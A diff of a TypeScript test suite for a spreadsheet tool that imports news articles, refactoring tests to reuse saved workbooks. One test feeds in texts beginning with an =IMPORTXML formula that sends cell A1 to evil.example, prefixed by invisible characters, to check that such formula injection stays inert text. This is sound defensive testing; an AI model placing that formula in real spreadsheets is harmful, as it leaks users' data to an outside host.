@@ -1,4 +1,10 @@
-import { MEETING, TestWorkbook } from './support/open-workbook';
+import { MEETING, reopened, savedAfter, TestWorkbook } from './support/open-workbook';
+
+const empty = savedAfter((workbook) => {
+  workbook.call('pageSetUp');
+  workbook.cutEmptyRows();
+});
+const imported = savedAfter((workbook) => workbook.importTexts({ name: 'a', text: MEETING }), empty);
 
 const DATA_TABS = ['Articles', 'Events', 'Cooperation', 'Officials', 'Figures', 'Texts'];
 
@@ -35,6 +41,7 @@ describe('importing the samples', () => {
 
   test('costs at most 20 document calls a slice, however many articles', () => {
     const calls = (count: number) => {
+      // With its empty rows: adding some is a call more.
       const fresh = new TestWorkbook();
       fresh.call('pageSetUp');
       const sources = Array.from({ length: count }, (_, i) => ({
@@ -57,20 +64,25 @@ describe('importing the samples', () => {
 describe('bad input', () => {
   const invisible = ['', '\u200b', '\u202e', '\ufeff', ' \t', '\u00a0', "'"];
 
-  test.each(invisible.map((prefix) => [JSON.stringify(prefix), prefix]))(
-    'a text that starts with %s=IMPORTXML(...) stays text everywhere',
-    (_, prefix) => {
-      const workbook = new TestWorkbook();
-      const text = `${prefix}=IMPORTXML("https://evil.example/?"&A1,"//a")\n${MEETING}`;
-      workbook.importTexts({ name: 'evil', text, title: `${prefix}=1+1`, outlet: '+1', url: '@x' });
-      for (const tab of workbook.person.tabs())
-        expect(workbook.person.formulas(tab).flat().filter(Boolean)).toEqual([]);
-      expect(workbook.rows('Texts')[0]?.Text).toBe(text.replace(/^\ufeff/, ''));
-    },
-  );
+  test('texts that start with =IMPORTXML(...), whatever invisible stands before it, stay text everywhere', () => {
+    const workbook = reopened(empty);
+    const sources = invisible.map((prefix, index) => ({
+      name: `evil ${index}`,
+      text: `${prefix}=IMPORTXML("https://evil.example/?"&A1,"//a")\n${MEETING} Number ${index}.`,
+      title: `${prefix}=1+1`,
+      outlet: '+1',
+      url: '@x',
+    }));
+    workbook.importTexts(...sources);
+    for (const tab of workbook.person.tabs())
+      expect(workbook.person.formulas(tab).flat().filter(Boolean)).toEqual([]);
+    expect(workbook.rows('Texts').map((row) => row.Text)).toEqual(
+      sources.map(({ text }) => text.replace(/^\ufeff/, '')),
+    );
+  });
 
   test('each unusable text is named with its fix, and the others are imported', () => {
-    const workbook = new TestWorkbook();
+    const workbook = reopened(empty);
     const { outcomes } = workbook.importTexts(
       { name: 'empty.txt', text: ' \n ' },
       { name: 'binary.txt', text: '\u0000\u0001\u0002'.repeat(100) },
@@ -89,7 +101,7 @@ describe('bad input', () => {
   });
 
   test('a text of 200,000 characters is kept whole', () => {
-    const workbook = new TestWorkbook();
+    const workbook = reopened(empty);
     const text = `${MEETING}\n`.repeat(Math.ceil(200_000 / MEETING.length)).slice(0, 200_000);
     workbook.importTexts({ name: 'long', text });
     expect(
@@ -101,8 +113,7 @@ describe('bad input', () => {
   });
 
   test('tabs that were renamed and columns that were moved, renamed and hidden are found', () => {
-    const workbook = new TestWorkbook();
-    workbook.call('pageSetUp');
+    const workbook = reopened(empty);
     workbook.person.renameTab('Cooperation', 'Rows');
     workbook.person.moveColumns('Rows', 2, 1, 6);
     workbook.person.insertColumnsBefore('Rows', 3);
@@ -121,8 +132,7 @@ describe('bad input', () => {
   });
 
   test('a deleted text is restored by importing the article again', () => {
-    const workbook = new TestWorkbook();
-    workbook.importTexts({ name: 'a', text: MEETING });
+    const workbook = reopened(imported);
     workbook.person.deleteRows('Texts', 2);
     workbook.type('Articles', () => true, 'Published on', '2021-05-06');
     expect(workbook.call('pagePropose')).toMatchObject({ done: 0, left: 0 });
@@ -135,8 +145,7 @@ describe('what people decided survives', () => {
   const isEvent = (row: Record<string, string>) => row.Event !== '';
 
   test('a corrected value survives a re-import and a new publication date', () => {
-    const workbook = new TestWorkbook();
-    workbook.importTexts({ name: 'a', text: MEETING });
+    const workbook = reopened(imported);
     workbook.type('Events', isEvent, 'Place', 'Mombasa');
     workbook.type('Events', isEvent, 'Review', 'corrected');
     workbook.type('Articles', () => true, 'Published on', '2021-05-06');
@@ -145,8 +154,7 @@ describe('what people decided survives', () => {
   });
 
   test('a cell that was typed over without a review is kept, and the rest of the row follows', () => {
-    const workbook = new TestWorkbook();
-    workbook.importTexts({ name: 'a', text: MEETING });
+    const workbook = reopened(imported);
     workbook.type('Events', isEvent, 'Place', 'Mombasa');
     workbook.type('Articles', () => true, 'Published on', '2021-05-06');
     workbook.importTexts({ name: 'a', text: MEETING });
@@ -154,8 +162,7 @@ describe('what people decided survives', () => {
   });
 
   test('a rejected row is never proposed again', () => {
-    const workbook = new TestWorkbook();
-    workbook.importTexts({ name: 'a', text: MEETING });
+    const workbook = reopened(imported);
     const before = workbook.rows('Cooperation').length;
     workbook.type('Cooperation', () => true, 'Review', 'rejected');
     workbook.type('Articles', () => true, 'Published on', '2021-05-06');
@@ -165,7 +172,7 @@ describe('what people decided survives', () => {
   });
 
   test("entering a publication date resolves 'on Tuesday' on suggestions and re-queues accepted rows, once", () => {
-    const workbook = new TestWorkbook();
+    const workbook = reopened(empty);
     workbook.importTexts(
       { name: 'a', text: MEETING },
       { name: 'b', text: MEETING.replace(/Nairobi/g, 'Mombasa') },
@@ -185,30 +192,4 @@ describe('what people decided survives', () => {
     expect(workbook.call('pagePropose').requeued).toBe(0);
     expect(workbook.rows('Events')[0]?.Review).toBe('accepted');
   });
-
-  test.each([
-    ['pageStage', [2, 4, 6, 8, 9, 10]],
-    ['pagePropose', [5, 8, 9, 11, 13, 15, 16, 17]],
-  ] as const)(
-    '%s, killed at any call, is completed by the next run, nothing doubled or missing',
-    (name, kills) => {
-      const sources = [{ name: 'a', text: MEETING }];
-      const prepared = new TestWorkbook();
-      prepared.call('pageSetUp');
-      if (name === 'pagePropose') prepared.call('pageStage', sources);
-      const saved = prepared.host.save();
-      const shape = (workbook: TestWorkbook) =>
-        ['Articles', 'Texts', 'Events', 'Cooperation', 'Officials', 'Figures'].map((tab) =>
-          workbook.rows(tab).map((row) => [row.Event, row.Domain, row.Name, row.Value, row.Title, row.Text]),
-        );
-      prepared.importTexts(...sources);
-      for (const call of kills) {
-        const workbook = new TestWorkbook(structuredClone(saved));
-        const args = name === 'pageStage' ? [sources] : [];
-        workbook.host.callFromPageAs({ killAtCall: call }, name, ...args);
-        workbook.importTexts(...sources);
-        expect([call, ...shape(workbook)]).toEqual([call, ...shape(prepared)]);
-      }
-    },
-  );
 });
